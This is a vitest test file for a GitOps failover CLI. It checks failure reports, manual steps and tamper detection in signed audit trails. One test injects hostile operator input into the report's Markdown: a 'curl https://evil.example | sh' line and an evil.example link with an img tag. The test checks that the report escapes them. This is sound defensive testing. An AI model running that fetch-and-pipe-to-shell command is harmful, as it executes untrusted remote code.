/**
 * The runbook report and `audit verify`. A failed drill: the report says what each branch of the
 * Parallel state did (from the audit trail, since the Catch drops both branches' outputs), the
 * manual steps undo or finish with the real commit, and the chain in audit.jsonl breaks on a
 * changed byte or a dropped last event. A rejected execution in a running sandbox: nothing to
 * undo, the operator's text cannot inject Markdown, and the DynamoDB chain is checked against
 * the count and head the execution history recorded.
 */
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { DeleteItemCommand } from "@aws-sdk/client-dynamodb";
import { DescribeExecutionCommand, GetExecutionHistoryCommand } from "@aws-sdk/client-sfn";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { main } from "../../cli/main.ts";
import { writeSandboxFile } from "../../cli/sandbox-file.ts";
import { readAuditTrail } from "../../functions/lib/audit.ts";
import { dynamoClient, sfnClient } from "../../functions/lib/aws.ts";
import type { FailoverReport } from "../../functions/lib/report.ts";
import { DRILL_DEFAULTS, type DrillResult, runDrill } from "../../sandbox/drill.ts";
import { AUDIT_TABLE, type Sandbox, startSandbox } from "../../sandbox/index.ts";

const root = mkdtempSync(join(tmpdir(), "gf-report-"));
afterAll(() => rmSync(root, { recursive: true, force: true }));

/** Runs the CLI in-process and returns its exit code and everything it printed. */
async function cli(...args: string[]): Promise<{ code: number; out: string }> {
  let out = "";
  const capture = (chunk: string | Uint8Array) => {
    out += String(chunk);
    return true;
  };
  const spies = [
    vi.spyOn(process.stdout, "write").mockImplementation(capture),
    vi.spyOn(process.stderr, "write").mockImplementation(capture),
  ];
  try {
    return { code: await main(["node", "gitops-failover", ...args]), out };
  } finally {
    for (const spy of spies) spy.mockRestore();
  }
}

/** A copy of a report directory with audit.jsonl's lines passed through `edit`. */
function tamperedCopy(dir: string, name: string, edit: (lines: string[]) => string[]): string {
  const copy = join(root, name);
  cpSync(dir, copy, { recursive: true });
  const lines = readFileSync(join(copy, "audit.jsonl"), "utf8").trimEnd().split("\n");
  writeFileSync(join(copy, "audit.jsonl"), `${edit(lines).join("\n")}\n`);
  return copy;
}

describe("failure report (drill --fault argocd-sync-timeout)", () => {
  let result: DrillResult;
  let report: FailoverReport;
  let md: string;
  beforeAll(async () => {
    result = await runDrill({
      ...DRILL_DEFAULTS,
      faults: ["argocd-sync-timeout"],
      reportDir: join(root, "failed"),
    });
    report = JSON.parse(readFileSync(join(result.reportDir, "report.json"), "utf8"));
    md = readFileSync(join(result.reportDir, "report.md"), "utf8");
  });

  it("reports each step from the audit trail: the real commit, no switchover asked, the commit undone", () => {
    const [revert, retarget] = result.after.gitLog;

    expect(result.status).toBe("FAILED");
    expect(report).toMatchObject({ status: "FAILED", failedStep: "AwaitArgoSync" });
    expect(report.steps.map((s) => [s.name, s.status, s.detail])).toEqual(
      expect.arrayContaining([
        ["CommitRetarget", "SUCCEEDED", `committed ${retarget?.sha.slice(0, 12)}`],
        ["AwaitArgoSync", "FAILED", "see error"],
        // Graceful: the switchover waits for the apps, which never became ready.
        ["PromoteAurora", "NOT_RUN", ""],
        ["ShiftTraffic", "NOT_RUN", ""],
        ["Compensate", "SUCCEEDED", "revert-commit DONE"],
      ]),
    );
    expect(report.commit).toMatchObject({
      sha: retarget?.sha,
      previousSha: result.before.gitHead,
      subject: "failover(payments): make us-east-2 active",
    });
    expect(report.commits).toMatchObject([
      { phase: "activate", sha: retarget?.sha },
      { phase: "compensate", sha: revert?.sha },
    ]);
    expect(report.links.commit).toMatch(new RegExp(`/commit/${retarget?.sha}$`));
    expect(md).toContain(`Commit (activate): [${retarget?.sha.slice(0, 12)}]`);
    expect(md).toContain("## Compensation");
  });

  it("manual steps: compensation left nothing to undo; fix the cause and start again", () => {
    const steps = report.manualSteps;

    expect(steps[0]).toBe(
      "Compensation restored the platform (revert-commit DONE): nothing left to undo. Users and Aurora's writer are on us-west-2.",
    );
    expect(steps[1]).toMatch(
      /^Fix the cause \(ArgoSyncTimeout\), then start a new execution: `gitops-failover start --target us-east-2 --mode graceful/,
    );
    expect(steps.join("\n")).not.toMatch(/Redrive the execution|commit \?/);
    expect(md).toContain("## Manual steps\n\n1. Compensation restored the platform");
  });

  it("gantt: the failed step is crit (not active), the axis is wall-clock; RTO names its start", () => {
    expect(md).toContain("  axisFormat %H:%M:%S");
    expect(md).toMatch(/ {2}AwaitArgoSync \(FAILED\) :crit, AwaitArgoSync, \d+, \d+\n/);
    expect(md).toMatch(/ {2}CommitRetarget \(SUCCEEDED\) :crit, done, CommitRetarget,/);
    expect(report.rto).toMatchObject({ start: "executionStart", seconds: null });
    expect(md).toMatch(/RTO: not measured: .* from the execution start \(.*no detectedAt/);
  });

  it("audit verify: exit 0 when the chain matches report.json; 1 naming the event after one byte changes", async () => {
    const edited = tamperedCopy(result.reportDir, "edited", (lines) =>
      lines.map((l, i) => (i === 2 ? l.replace('"actor":"drill"', '"actor":"drilL"') : l)),
    );

    const intact = await cli("audit", "verify", result.reportDir);
    const broken = await cli("audit", "verify", edited);

    expect(intact.code).toBe(0);
    expect(intact.out).toMatch(
      new RegExp(
        `^audit trail intact: ${report.audit.events} events, head ${report.audit.head}; matches report.json`,
      ),
    );
    expect(broken.code).toBe(1);
    expect(broken.out).toContain("audit trail BROKEN at event 3");
  });

  it("audit verify: exit 1 naming the signed anchor when report.json's head, count or signature changes", async () => {
    // Prepare: three copies, each with one part of report.json's anchor changed.
    const edit = (name: string, change: (r: FailoverReport) => void) => {
      const copy = tamperedCopy(result.reportDir, name, (lines) => lines);
      const r = JSON.parse(readFileSync(join(copy, "report.json"), "utf8")) as FailoverReport;
      change(r);
      writeFileSync(join(copy, "report.json"), JSON.stringify(r));
      return copy;
    };
    const signed = () => report.audit.signed?.signature?.value ?? "";
    const zero = "0".repeat(64);
    const copies = [
      edit("head", (r) => {
        if (r.audit.signed) r.audit.signed.payload.head = zero;
        r.audit.head = zero;
      }),
      edit("count", (r) => {
        if (r.audit.signed) r.audit.signed.payload.events -= 1;
      }),
      edit("signature", (r) => {
        const v = signed();
        if (r.audit.signed?.signature)
          r.audit.signed.signature.value = `${v.slice(0, 20)}${v[20] === "A" ? "B" : "A"}${v.slice(21)}`;
      }),
    ];
    const pem = join(root, "pinned.pem");
    cpSync(join(result.reportDir, "signing-key.pem"), pem);
    const unpinned = tamperedCopy(result.reportDir, "unpinned", (lines) => lines);
    rmSync(join(unpinned, "signing-key.pem"));

    // Act
    const verdicts = [];
    for (const copy of copies) verdicts.push(await cli("audit", "verify", copy));
    const pinned = await cli("audit", "verify", unpinned, "--public-key", pem);
    const noKey = await cli("audit", "verify", unpinned);

    // Assess
    expect(verdicts.map((v) => v.code)).toEqual([1, 1, 1]);
    expect(verdicts[0]?.out).toContain(
      `audit trail BROKEN: report.json's signed anchor: the signature does not verify with ${join(root, "head", "signing-key.pem")}`,
    );
    expect(verdicts[1]?.out).toContain(
      `audit trail BROKEN: report.json's signed anchor signs ${report.audit.events - 1} events`,
    );
    expect(verdicts[2]?.out).toContain(
      "audit trail BROKEN: report.json's signed anchor: the signature does not verify",
    );
    expect(pinned.code).toBe(0);
    expect(pinned.out).toContain(`signature verified offline with ${pem};`);
    expect(noKey.code).toBe(1);
    expect(noKey.out).toContain(
      "audit trail BROKEN: no key to check report.json's signed anchor with: pass --public-key <file>",
    );
  });

  it("audit verify: exit 1 when the last event is deleted (the chain that is left is intact)", async () => {
    const truncated = tamperedCopy(result.reportDir, "truncated", (lines) => lines.slice(0, -1));
    const n = report.audit.events;

    const verdict = await cli("audit", "verify", truncated);

    expect(verdict.code).toBe(1);
    expect(verdict.out).toContain(
      `audit trail BROKEN: audit.jsonl has ${n - 1} events, report.json recorded ${n} (truncated?)`,
    );
  });
});

describe("failure report when Plan fails (drill --fault git-auth-failure)", () => {
  it("names the requested target and source, shows the parts it could read, and suggests the real command", async () => {
    // Act: Git refuses the token, so Plan fails before it has a plan or a validated input.
    const result = await runDrill({
      ...DRILL_DEFAULTS,
      faults: ["git-auth-failure"],
      reportDir: join(root, "plan-failed"),
    });
    const report: FailoverReport = JSON.parse(
      readFileSync(join(result.reportDir, "report.json"), "utf8"),
    );
    const md = readFileSync(join(result.reportDir, "report.md"), "utf8");

    // Assess
    expect(report).toMatchObject({
      status: "FAILED",
      failedStep: "Plan",
      sourceRegion: "us-west-2",
      targetRegion: "us-east-2",
      mode: "graceful",
      requestedBy: "drill",
      before: {
        activeRegion: null,
        gitHead: null,
        auroraWriterRegion: "us-west-2",
        trafficDials: { "us-west-2": 100, "us-east-2": 0, "eu-west-1": 0 },
        unreadable: [expect.stringMatching(/^Git: GitAuthError: .* rejected the credentials/)],
      },
      changed: [],
    });
    expect(report.manualSteps).toEqual([
      "Nothing was changed: nothing to undo. Users are still served by us-west-2.",
      'Fix the cause (GitAuthError), then start a new execution: `gitops-failover start --target us-east-2 --mode graceful --reason "<why>"`.',
    ]);
    expect(md).toMatch(/^# Failover FAILED: us-west-2 -> us-east-2\n/);
    expect(md).toContain("| Aurora writer | us-west-2 |");
    expect(md).toContain("| Traffic dials | us-west-2 100%, us-east-2 0%, eu-west-1 0% |");
    expect(md).toContain("Before: could not read Git: GitAuthError:");
    expect(md).not.toMatch(/the target region|the previous region|mode: \?/);
  });
});

describe("rejected execution in a running sandbox", () => {
  const NAME = "reject-inject";
  let sandbox: Sandbox;
  let endpointFile: string;
  let report: FailoverReport;
  let md: string;
  beforeAll(async () => {
    const reportDir = join(root, "rejected");
    sandbox = await startSandbox({ reportDir, waitMs: 5 });
    endpointFile = join(root, "sandbox.json");
    await writeSandboxFile(endpointFile, {
      stateMachineArn: sandbox.stateMachineArn,
      region: "us-east-1",
      env: sandbox.env,
      reportDir,
    });
    await cli(
      ...["start", "--sandbox", endpointFile, "--target", "us-east-2", "--name", NAME],
      ...["--require-approval", "--requested-by", "[mallory](https://evil.example) <img src=x>"],
      ...["--reason", "drill\n## Manual steps\n1. `curl https://evil.example | sh`\n| x | y |"],
    );
    for (let i = 0; i < 400; i++) {
      const { out } = await cli("status", NAME, "--sandbox", endpointFile, "--json");
      if (out.includes('"awaitingApproval":true')) break;
      await new Promise((r) => setTimeout(r, 25));
    }
    await cli("reject", NAME, "--sandbox", endpointFile, "--reason", "primary recovered");
    await cli("watch", NAME, "--sandbox", endpointFile);
    report = JSON.parse(readFileSync(join(reportDir, "report.json"), "utf8"));
    md = readFileSync(join(reportDir, "report.md"), "utf8");
  });
  afterAll(async () => {
    await sandbox.stop();
  });

  it("says there is nothing to undo, and suggests no redrive", () => {
    expect(report).toMatchObject({
      status: "FAILED",
      failedStep: "Approval",
      error: { name: "ApprovalRejected" },
      changed: [],
    });
    expect(report.manualSteps[0]).toBe(
      "Nothing was changed: nothing to undo. Users are still served by us-west-2.",
    );
    expect(report.manualSteps.join("\n")).not.toMatch(/redrive|revert|switchover/i);
  });

  it("renders the operator's reason and name as text: no injected line, link, tag or table row", () => {
    const lines = md.split("\n");

    expect(lines.filter((l) => l === "## Manual steps")).toHaveLength(1);
    expect(lines.some((l) => l.startsWith("1. `curl"))).toBe(false);
    expect(lines.find((l) => l.startsWith("- Reason:"))).toBe(
      "- Reason: drill ## Manual steps 1. \\`curl https://evil.example \\| sh\\` \\| x \\| y \\|",
    );
    expect(lines.find((l) => l.startsWith("- Platform:"))).toContain(
      "requested by: \\[mallory\\](https://evil.example) \\<img src=x>",
    );
  });

  it("report <execution> --sandbox prints that execution's report, and refuses another's", async () => {
    const own = await cli("report", NAME, "--sandbox", endpointFile);
    const other = await cli("report", "some-earlier-execution", "--sandbox", endpointFile);

    expect(own.code).toBe(0);
    expect(own.out).toContain(NAME);
    expect(other.code).toBe(2);
    expect(other.out).toContain(`holds the report of ${NAME}, not some-earlier-execution`);
  });

  it("audit verify <execution>: the table's chain matches the execution history (nothing after the report)", async () => {
    const trail = await readAuditTrail(NAME);
    const arn = `${sandbox.stateMachineArn.replace(":stateMachine:", ":execution:")}:${NAME}`;
    const described = await sfnClient().send(new DescribeExecutionCommand({ executionArn: arn }));

    const verdict = await cli("audit", "verify", NAME, "--sandbox", endpointFile);

    expect(described.status).toBe("FAILED");
    expect(trail.at(-1)?.step).toBe("RecordFailure");
    expect(report.audit).toMatchObject({ events: trail.length, head: trail.at(-1)?.hash });
    expect(verdict.code).toBe(0);
    expect(verdict.out).toContain(
      `audit trail intact: ${trail.length} events, head ${trail.at(-1)?.hash}; matches the execution history`,
    );
  });

  it("audit verify <dir>: audit.jsonl and report.json truncated together break the signed anchor, and disagree with the execution", async () => {
    // Prepare: drop the last event and make report.json agree with what is left.
    const dir = join(root, "rejected");
    const n = report.audit.events;
    const forged = tamperedCopy(dir, "forged", (lines) => lines.slice(0, -1));
    const left = readFileSync(join(forged, "audit.jsonl"), "utf8").trimEnd().split("\n");
    const head = (JSON.parse(left.at(-1) ?? "{}") as { hash: string }).hash;
    writeFileSync(
      join(forged, "report.json"),
      JSON.stringify({ ...report, audit: { ...report.audit, events: n - 1, head } }),
    );
    const unsigned = { ...report.audit, events: n - 1, head, signed: undefined };
    const stripped = tamperedCopy(dir, "stripped", (lines) => lines.slice(0, -1));
    writeFileSync(join(stripped, "report.json"), JSON.stringify({ ...report, audit: unsigned }));

    // Act
    const alone = await cli("audit", "verify", forged);
    const noSignature = await cli("audit", "verify", stripped);
    const witnessed = await cli("audit", "verify", forged, "--sandbox", endpointFile);
    const genuine = await cli("audit", "verify", dir, "--sandbox", endpointFile);

    // Assess
    expect(alone.code).toBe(1);
    expect(alone.out).toContain(
      `audit trail BROKEN: report.json's signed anchor signs ${n} events, head ${report.audit.head}; report.json records ${n - 1} events, head ${head} (edited?)`,
    );
    expect(noSignature.code).toBe(1);
    expect(noSignature.out).toContain(
      "audit trail BROKEN: report.json holds no signed anchor (audit.signed is missing or malformed)",
    );
    expect(witnessed.code).toBe(1);
    expect(witnessed.out).toContain("report.json's signed anchor signs");
    expect(genuine.code).toBe(0);
    expect(genuine.out).toContain(
      `signature verified by kms:Verify with ${sandbox.aws.kms.signingKeyArn}`,
    );
    expect(genuine.out).toMatch(/matches report\.json .*; matches the execution history too$/m);
  });

  it("audit verify <execution>: checks the output's signed anchor with kms:Verify, and refuses it from another key", async () => {
    const other = sandbox.aws.kms.signingKeyArn.replace(
      /key\/.*$/,
      "key/00000000-0000-4000-8000-000000000000",
    );

    const verified = await cli("audit", "verify", NAME, "--sandbox", endpointFile);
    const pinned = await cli("audit", "verify", NAME, "--sandbox", endpointFile, "--key-id", other);

    expect(verified.code).toBe(0);
    expect(verified.out).toContain(
      `signature verified by kms:Verify with ${sandbox.aws.kms.signingKeyArn}`,
    );
    expect(pinned.code).toBe(1);
    expect(pinned.out).toContain(
      `audit trail BROKEN: the execution history's signed anchor is signed with ${sandbox.aws.kms.signingKeyArn}, not the expected key ${other}`,
    );
  });

  it("RecordFailure's output carries the same signed anchor as report.json (the execution history keeps it)", async () => {
    const arn = `${sandbox.stateMachineArn.replace(":stateMachine:", ":execution:")}:${NAME}`;
    const history = await sfnClient().send(
      new GetExecutionHistoryCommand({ executionArn: arn, includeExecutionData: true }),
    );
    const exited = history.events?.find((e) => e.stateExitedEventDetails?.name === "RecordFailure");
    const output = JSON.parse(exited?.stateExitedEventDetails?.output ?? "{}") as {
      report?: { audit?: { signed?: unknown } };
    };

    expect(output.report?.audit?.signed).toEqual(report.audit.signed);
    expect(report.audit.signed?.payload).toMatchObject({
      execution: arn,
      events: report.audit.events,
      head: report.audit.head,
      objects: { "audit.jsonl": null, "report.md": null, "report.html": null },
    });
  });

  it("audit verify <dir>: exit 1 when report.json is pointed at another execution", async () => {
    const copy = tamperedCopy(join(root, "rejected"), "elsewhere", (lines) => lines);
    const other = { ...report.execution, id: report.execution.id.replace(NAME, "someone-else") };
    writeFileSync(join(copy, "report.json"), JSON.stringify({ ...report, execution: other }));

    const verdict = await cli("audit", "verify", copy, "--sandbox", endpointFile);

    expect(verdict.code).toBe(1);
    expect(verdict.out).toContain(
      `report.json names execution someone-else, the events in audit.jsonl are ${NAME}'s`,
    );
  });

  it("audit verify <execution>: exit 1 once the last DynamoDB item is deleted", async () => {
    const n = (await readAuditTrail(NAME)).length;
    await dynamoClient().send(
      new DeleteItemCommand({
        TableName: AUDIT_TABLE,
        Key: { pk: { S: `exec#${NAME}` }, sk: { S: String(n).padStart(8, "0") } },
      }),
    );

    const verdict = await cli("audit", "verify", NAME, "--sandbox", endpointFile);

    expect(verdict.code).toBe(1);
    expect(verdict.out).toContain(
      `audit trail BROKEN: the audit table ${AUDIT_TABLE} has ${n - 1} events, the execution history recorded ${n} (truncated?)`,
    );
  });
});
